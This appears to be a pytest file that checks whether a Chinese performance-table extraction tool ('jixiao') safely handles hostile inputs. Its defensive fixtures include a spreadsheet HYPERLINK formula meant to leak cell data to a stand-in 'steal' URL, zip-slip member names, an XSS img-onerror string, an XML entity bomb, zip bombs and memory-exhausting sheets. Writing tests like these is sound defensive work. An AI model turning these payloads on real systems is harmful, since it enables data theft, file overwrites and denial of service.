"""Hostile but valid inputs: each is read in bounded time and memory, or gets one clear reason; nothing
a document holds becomes a formula, a link or markup in the report; nothing native reaches the terminal."""
import faulthandler
import hashlib
import os
import re
import shutil
import subprocess
import tempfile
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from builders import BALANCED, table_text
from openpyxl import load_workbook

from jixiao.cli import main
from jixiao.extract.office import convert
from jixiao.runner.batch import rss_mib

ROOT = Path(__file__).parent.parent
SEED = ROOT / "fixtures" / "seed" / "000_3b6eebb77ec974f1.txt"
NO_SOFFICE = "LibreOffice not installed: apt-get install libreoffice-calc"
LINK = '=HYPERLINK("http://example.invalid/steal?"&A1,"点此核对")'


def documents(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "documents.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)


# ---- review.xlsx: no formula from data -----------------------------------------------------------
@pytest.fixture(scope="module")
def reviewed(tmp_path_factory) -> Path:
    """The seed and a table whose 三级指标 is a HYPERLINK formula, a reason '#N/A', another a control character."""
    folder = tmp_path_factory.mktemp("hostile-report")
    rows = [("产出指标", "数量指标", LINK, "=100.00(%)", "100.00(%)", "50", "50", "#N/A"),
            (*BALANCED[1][:7], "铃\x07声"), BALANCED[2]]
    hostile = folder / "hostile.txt"
    hostile.write_text(table_text(rows, name="=1+1"), encoding="utf-8")
    seed = folder / SEED.name
    shutil.copy(SEED, seed)
    out = folder / "out"
    assert main(["run", str(seed), str(hostile), "--out", str(out), "--quiet", "--no-cache", "--report"]) == 0
    return out


def test_review_xlsx_holds_no_formula_from_data(reviewed):
    indicators = pd.read_csv(reviewed / "indicators.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert LINK in set(indicators.level3) and (indicators.target_raw == "=100.00(%)").sum() == 19  # the CSV: exact text
    wb = load_workbook(reviewed / "review.xlsx")  # formulas as formulas (data_only=False)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"=100.00(%)", LINK, "#N/A", "=1+1", "铃\ufffd声"} <= texts  # XML cannot hold U+0007: U+FFFD
    assert "铃\x07声" in set(indicators.deviation_reason)
    header = [c.value for c in wb["indicators"][1]]
    weights = [row[header.index("weight")].value for row in wb["indicators"].iter_rows(min_row=2)]
    assert weights and all(isinstance(v, (int, float)) for v in weights)  # numbers stay numbers
    with zipfile.ZipFile(reviewed / "review.xlsx") as z:
        xml = {n: z.read(n) for n in z.namelist()}
    assert not any(re.search(rb"<f[ >]", data) for data in xml.values())
    # the only links are jixiao's own, to rows of the workbook itself
    assert not any(b"TargetMode=\"External\"" in data for n, data in xml.items() if n.endswith(".rels"))
    links = re.findall(rb"<hyperlink [^>]*>", xml["xl/worksheets/sheet2.xml"])
    assert links and all(b"location=\"'" in h and b"r:id" not in h for h in links)


@pytest.mark.skipif(convert.soffice() is None, reason=NO_SOFFICE)
def test_libreoffice_shows_the_targets_as_text(reviewed, tmp_path):
    """Opened in LibreOffice (converted headless to CSV), =100.00(%) reads as typed, not as 1 or an error."""
    shutil.copy(reviewed / "review.xlsx", tmp_path / "review.xlsx")
    # Filter options: comma, double quote, UTF-8, from line 1, …, the last -1: every sheet to its own file.
    csv = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1'
    subprocess.run([convert.soffice(), f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
                    "--convert-to", csv, "--outdir", str(tmp_path), str(tmp_path / "review.xlsx")],
                   check=True, capture_output=True, timeout=120, env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    text = (tmp_path / "review-indicators.csv").read_text(encoding="utf-8")
    assert text.count(",=100.00(%),") == 19 and LINK.replace('"', '""') in text


# ---- a reader that dies natively -----------------------------------------------------------------
def test_a_native_crash_is_one_line_naming_the_reader(tmp_path, monkeypatch, capfd):
    """What the reader printed never reaches the terminal: its last meaningful line goes to notes, the
    reason names the reader, and the row has its doc_id (hashed before the file's process started)."""
    from jixiao.extract.text import reader as text

    def abort(path):
        os.write(1, b"some chatter on stdout\n")
        os.write(2, b"memory allocation of 549755813888 bytes failed\nstack backtrace:\n   0: std::alloc::rust_oom\n"
                    b"             at /rustc/library/std/src/alloc.rs:378:5\nnote: Some details are omitted\n")
        faulthandler.disable()
        os.abort()
    monkeypatch.setattr(text, "read_text", abort)
    path = tmp_path / "a.txt"
    path.write_text(table_text(BALANCED), encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "out")
    assert list(d.error) == ["the text reader ran out of memory (signal 6)"]
    assert list(d.notes) == ["last line printed: memory allocation of 549755813888 bytes failed"]
    assert list(d.doc_id) == [hashlib.sha256(path.read_bytes()).hexdigest()[:16]]
    printed = capfd.readouterr()
    assert "memory allocation" not in printed.err + printed.out and "chatter" not in printed.err + printed.out


def test_a_file_that_timed_out_keeps_its_doc_id(tmp_path, monkeypatch):
    from jixiao.extract.text import reader as text

    def hang(path):
        os.write(1, "working…\n".encode())
        time.sleep(30)
    monkeypatch.setattr(text, "read_text", hang)
    path = tmp_path / "a.txt"
    path.write_text(table_text(BALANCED), encoding="utf-8")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache", "--file-timeout", "1"]) == 0
    d = documents(tmp_path / "out")
    assert (list(d.error), list(d.notes)) == (["timed out after 1 s (--file-timeout)"], ["last line printed: working…"])
    assert list(d.doc_id) == [hashlib.sha256(path.read_bytes()).hexdigest()[:16]]


# ---- workbooks whose cells stand far apart ------------------------------------------------------
def table_rows(name: str = "远处项目") -> list[list[str]]:
    return [line.split("\t") for line in table_text(BALANCED, name=name).splitlines()]


def xlsx(path: Path, rows: list[list[str]], **far: str) -> Path:
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    for ref, value in far.items():
        wb.active[ref] = value
    wb.save(path)
    return path


def patched(path: Path, part: str, edit) -> Path:
    """The zip at path with one part's bytes passed through edit (a copy beside it)."""
    out = path.with_name("patched-" + path.name)
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info.filename, edit(data) if info.filename == part else data)
    return out


ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')


def ods(path: Path, rows_xml: str) -> Path:
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS} office:version="1.2">'
               f'<office:body><office:spreadsheet><table:table table:name="自评表">{rows_xml}</table:table>'
               '</office:spreadsheet></office:body></office:document-content>')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
                   'xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml" '
                   'manifest:media-type="text/xml"/></manifest:manifest>')
        z.writestr("content.xml", content)
    return path


def ods_rows(rows: list[list[str]]) -> str:
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    return "".join("<table:table-row>" + "".join(cell.format(c) if c else "<table:table-cell/>" for c in row)
                   + "</table:table-row>" for row in rows)


def read_both(tmp_path: Path, plain: Path, hostile: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Both files through `jixiao run`, each in a process allowed 400 MiB above what it starts with (a
    fork of this one); their documents and indicators (ids left out)."""
    out = tmp_path / "out"
    limit = round(rss_mib(os.getpid())) + 400
    assert main(["run", str(plain), str(hostile), "--out", str(out), "--quiet", "--no-cache",
                 "--max-memory", str(limit)]) == 0
    ind = pd.read_csv(out / "indicators.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    ind["doc"] = ind.pop("project_id").str[:16]
    docs = documents(out)
    first, second = (ind[ind.doc == d].drop(columns="doc").reset_index(drop=True) for d in docs.doc_id)
    pd.testing.assert_frame_equal(first, second)
    return docs, first


def test_a_stray_cell_at_xfd1048576_is_read_with_the_table(tmp_path):
    plain = xlsx(tmp_path / "plain.xlsx", table_rows())
    stray = xlsx(tmp_path / "stray.xlsx", table_rows(), XFD1048576="x")  # calamine alone asks for 512 GB
    docs, indicators = read_both(tmp_path, plain, stray)
    assert list(docs.status) == ["ok", "ok"] and len(indicators) == 3
    assert re.fullmatch(r"sheet Sheet: \d\d cells spread over 1,048,576 rows × 16,384 columns: read with every "
                        r"run of more than 8 empty rows or columns cut to 8", docs.notes[1])


def test_a_stray_cell_in_an_ods_is_read_with_the_table(tmp_path):
    rows = table_rows()
    plain = ods(tmp_path / "plain.ods", ods_rows(rows))
    far = ('<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/>'
           '</table:table-row><table:table-row><table:table-cell table:number-columns-repeated="16000"/>'
           '<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
           '</table:table-row>')
    stray = ods(tmp_path / "stray.ods", ods_rows(rows) + far)  # calamine alone: "Cell limit exceeded"
    docs, indicators = read_both(tmp_path, plain, stray)
    assert list(docs.status) == ["ok", "ok"] and len(indicators) == 3
    assert re.match(r"sheet 自评表: \d\d cells spread over 1,048,018 rows × 16,001 columns: read with", docs.notes[1])


def test_a_stray_cell_in_an_xls_is_read_cell_by_cell(tmp_path):
    """BIFF caps a sheet at 65,536 × 256: laid out whole that took 1.2 GB and 6 s, cell by cell 40 MB."""
    from jixiao.extract.office.xlsx import read_workbook

    fixture = ROOT / "fixtures" / "office" / "xl01_clean_two_tables.xls"
    data = bytearray(fixture.read_bytes())
    label = data.rfind(b"\xfd\x00\x0a\x00")  # the last LABELSST record (the grade 良): moved to IV65536
    assert label > 0
    data[label + 4:label + 8] = (65535).to_bytes(2, "little") + (255).to_bytes(2, "little")
    (tmp_path / "stray.xls").write_bytes(data)
    grid = read_workbook(tmp_path / "stray.xls")
    plain = read_workbook(fixture).rows
    assert grid.notes == ["cells far apart: read cell by cell (xlrd), not as one block"]
    assert grid.rows[-1].cells == ("",) * 255 + ("良",) and plain[-1].cells[:2] == ("评分等级", "良")
    assert [r.cells[:8] for r in grid.rows[:-2]] == [r.cells[:8] for r in plain[:-1]]


@pytest.mark.parametrize("name, build, reason", [
    ("diagonal.xlsx", lambda p: xlsx(p, [], **{f"{openpyxl.utils.get_column_letter(i + 1)}{i + 1}": "x"
                                                for i in range(3000)}),
     "sheet Sheet: 3,000 cells spread over 3,000 rows × 3,000 columns: 9,000,000 positions to lay out even with "
     "the runs of empty rows and columns cut (limit 2,000,000); not read"),
    ("repeated.ods", lambda p: ods(p, '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
                                      'office:value-type="float" office:value="1" table:number-columns-repeated="16384">'
                                      '<text:p>1</text:p></table:table-cell></table:table-row>'),
     "sheet 自评表: 17,179,869,184 cells spread over 1,048,576 rows × 16,384 columns: 17,179,869,184 positions to "
     "lay out even with the runs of empty rows and columns cut (limit 16,777,216); not read"),
])
def test_a_sheet_too_spread_even_when_cut_gets_one_reason(tmp_path, name, build, reason):
    path = build(tmp_path / name)
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    assert list(documents(tmp_path / "out").error) == [reason]


def test_a_lying_dimension_and_a_merge_over_the_whole_sheet_cost_nothing(tmp_path):
    """openpyxl pads every row to <dimension>, and the covered cells of a merge were listed one by one."""
    from jixiao.extract.office.xlsx import read_workbook

    path = xlsx(tmp_path / "f.xlsx", [["=100%", "年度指标值"]])  # a formula: the openpyxl pass runs
    path = patched(path, "xl/worksheets/sheet1.xml", lambda xml: re.sub(
        rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml).replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="B2:XFD1048576"/></mergeCells>'))
    assert [r.cells for r in read_workbook(path).rows] == [("=100%", "年度指标值")]


def test_shared_strings_that_inflate_past_the_bomb_limit_are_refused(tmp_path):
    path = xlsx(tmp_path / "book.xlsx", table_rows())
    with zipfile.ZipFile(path) as z:
        strings = z.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in z.namelist() else None
    bomb = patched(path, "xl/worksheets/sheet1.xml", lambda xml: xml)
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as z:  # one shared string of 64 MiB
        z.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   b'count="1" uniqueCount="1"><si><t>' + b"a" * 2**26 + b"</t></si></sst>")
    assert strings is None  # openpyxl writes inline strings: the part is all ours
    assert main(["run", str(bomb), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    assert re.fullmatch(r"workbook refused as a zip bomb: xl/sharedStrings.xml inflates \d+× \(limit 200×\)",
                        documents(tmp_path / "out").error[0])


def test_calamine_aborting_is_caught_and_kept_off_the_terminal(tmp_path, monkeypatch, capfd):
    """Without the spread check calamine asks for 512 GB and aborts (Rust prints the failed allocation
    and a backtrace): one line naming the reader, what it printed in notes, nothing on the terminal."""
    from jixiao.extract.office import spread

    monkeypatch.setattr(spread.Spread, "absurd", lambda self: False)
    path = xlsx(tmp_path / "stray.xlsx", table_rows(), XFD1048576="x")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "out")
    assert (list(d.error), list(d.notes)) == (["the workbook reader ran out of memory (signal 6)"],
                                              ["last line printed: memory allocation of 549755813888 bytes failed"])
    assert list(d.doc_id) == [hashlib.sha256(path.read_bytes()).hexdigest()[:16]]
    printed = capfd.readouterr()
    assert printed.out + printed.err == ""


# ---- Word, PDF and text that push a reader -------------------------------------------------------
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(path: Path, body: str, prolog: str = "") -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document {W}>'
                                        f"<w:body>{body}</w:body></w:document>")
    return path


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def nested(depth: int) -> str:
    inner = paragraph("最深处")
    for level in range(depth, 0, -1):
        inner = f"<w:tbl><w:tr><w:tc>{paragraph(f'第{level}层')}{inner}</w:tc></w:tr></w:tbl>"
    return inner


def test_tables_nested_200_deep_are_read_and_deeper_gets_a_reason(tmp_path):
    from jixiao.extract.office.docx import read_docx

    rows = [r.cells for r in read_docx(docx(tmp_path / "deep.docx", nested(200))).rows]
    assert rows[:2] == [("第1层",), ("第2层",)] and rows[-1] == ("第200层\n最深处",) and len(rows) == 200
    path = docx(tmp_path / "deeper.docx", nested(5000))
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    assert list(documents(tmp_path / "out").error) == [
        "Word document nested too deeply to read (tables in tables, or wrappers in wrappers, hundreds of levels deep)"]


def test_an_entity_bomb_in_a_word_file_is_refused(tmp_path):
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "哈" * 10}">' for i in range(10))
    path = docx(tmp_path / "bomb.docx", paragraph("&e9;"), f"<!DOCTYPE d [{entities}]>")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    assert documents(tmp_path / "out").error[0].startswith(
        "cannot read Word document: limit on input amplification factor (from DTD and entities) breached")


def test_a_word_part_that_inflates_past_the_bomb_limit_is_refused(tmp_path):
    path = docx(tmp_path / "big.docx", paragraph("标题"))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/styles.xml", b"<w:styles/>" + b" " * 2**26)
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    assert re.fullmatch(r"Word document refused as a zip bomb: word/styles.xml inflates \d+× \(limit 200×\)",
                        documents(tmp_path / "out").error[0])


def glyph_pdf(path: Path, lines: int, per_line: int) -> Path:
    """One A4 page drawing lines × per_line CJK glyphs (a CID font with a ToUnicode map, no font program:
    the text layer is all a reader needs) in the words of a table header, so it is a candidate page."""
    words = "项目名称绩效指标自评表年度指标值实际完成值分值得分"
    size, step = 595 / (per_line + 2), 842 / (lines + 2)
    text = words * (per_line // len(words) + 2)
    shown = [f"1 0 0 1 {size:.3f} {842 - step * (i + 1):.3f} Tm <{text[i % len(words):][:per_line].encode('utf-16-be').hex()}> Tj"
             for i in range(lines)]  # each line begins elsewhere in the words: pdfium drops a repeated line
    content = zlib.compress("\n".join([f"BT /F1 {size:.3f} Tf", *shown, "ET"]).encode())
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /U def 1 begincodespacerange "
            b"<0000> <FFFF> endcodespacerange 1 beginbfrange <0000> <FFFF> <0000> endbfrange endcmap "
            b"CMapName currentdict /CMap defineresource pop end end")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
               b"/Contents 4 0 R >>",
               b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(content), content),
               b"<< /Type /Font /Subtype /Type0 /BaseFont /Song /Encoding /Identity-H /DescendantFonts [6 0 R] "
               b"/ToUnicode 7 0 R >>",
               b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Song /CIDSystemInfo << /Registry (Adobe) "
               b"/Ordering (Identity) /Supplement 0 >> /FontDescriptor 8 0 R /DW 1000 >>",
               b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cmap), cmap),
               b"<< /Type /FontDescriptor /FontName /Song /Flags 4 /FontBBox [0 -120 1000 880] /ItalicAngle 0 "
               b"/Ascent 880 /Descent -120 /CapHeight 700 /StemV 80 >>"]
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (n, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(out)
    return path


def test_a_page_of_200000_glyphs_is_not_laid_out(tmp_path):
    """pdfplumber took 11 s and 490 MB on it; the survey's count of characters says no at once."""
    path = glyph_pdf(tmp_path / "glyphs.pdf", 400, 500)
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "out")
    assert (list(d.status), list(d.notes)) == (
        ["no_tables"], ["pages 1: more than 50,000 characters, more than a page of a table holds; not laid out"])


def test_a_50_mb_line_is_left_out_and_said_so(tmp_path):
    path = tmp_path / "line.txt"
    with path.open("w", encoding="utf-8") as f:
        f.write(table_text(BALANCED))
        f.write("| 项目名称 | 100.00 " * (50 * 2**20 // 26))  # 50 MB, no line break: 75 s and 1 GB to regroup
        f.write("\n")
    assert main(["run", str(path), "--out", str(tmp_path / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "out")
    assert (list(d.status), list(d.projects)) == (["ok"], ["1"])  # the table above it is read
    line = len(table_text(BALANCED).splitlines()) + 1
    assert list(d.notes) == [f"line {line}: more than 1,000,000 characters, longer than any table's line; left out"]


# ---- archives and names ----------------------------------------------------------------------------
def test_zip_member_names_never_reach_outside_the_run(tmp_path, monkeypatch):
    """`../` and absolute member names are names, not places: each member is read from a temp copy
    named by its last part, inside the run's temp folder, and nothing is written anywhere else."""
    run_tmp = tmp_path / "deep" / "tmp"
    run_tmp.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(run_tmp))
    absolute = tmp_path / "absolute" / "evil.txt"
    names = ["../../escaped.txt", "a/../../../up.txt", str(absolute), "ok/inside.txt"]
    archive = tmp_path / "deep" / "evil.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for n, name in enumerate(names):
            z.writestr(name, table_text(BALANCED, name=f"成员{n}"))
    before = sorted(tmp_path.rglob("*"))
    assert main(["run", str(archive), "--out", str(tmp_path / "deep" / "out"), "--quiet", "--no-cache"]) == 0
    d = documents(tmp_path / "deep" / "out")
    assert list(d.source_file) == [f"{archive}!{n}" for n in names] and set(d.status) == {"ok"}
    new = {p for p in tmp_path.rglob("*") if p not in before and (tmp_path / "deep" / "out") not in p.parents}
    assert new == {tmp_path / "deep" / "out"} and not absolute.exists() and list(run_tmp.iterdir()) == []


def test_markup_in_names_and_cells_is_text_in_review_html(tmp_path):
    hostile = "</script><img src=x onerror=alert(1)>"
    folder = tmp_path / "<"  # the path reads …/</script><img …>.txt
    folder.mkdir()
    path = folder / "script><img src=x onerror=alert(1)>.txt"
    path.write_text(table_text(BALANCED, name=hostile), encoding="utf-8")
    out = tmp_path / "out"
    assert main(["run", str(path), "--out", str(out), "--quiet", "--no-cache", "--report"]) == 0
    page = (out / "review.html").read_text(encoding="utf-8")
    assert hostile in (out / "projects.csv").read_text(encoding="utf-8-sig")
    assert "<img src=x" not in page and "</script><img" not in page
    assert "&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page  # shown as text where it is shown
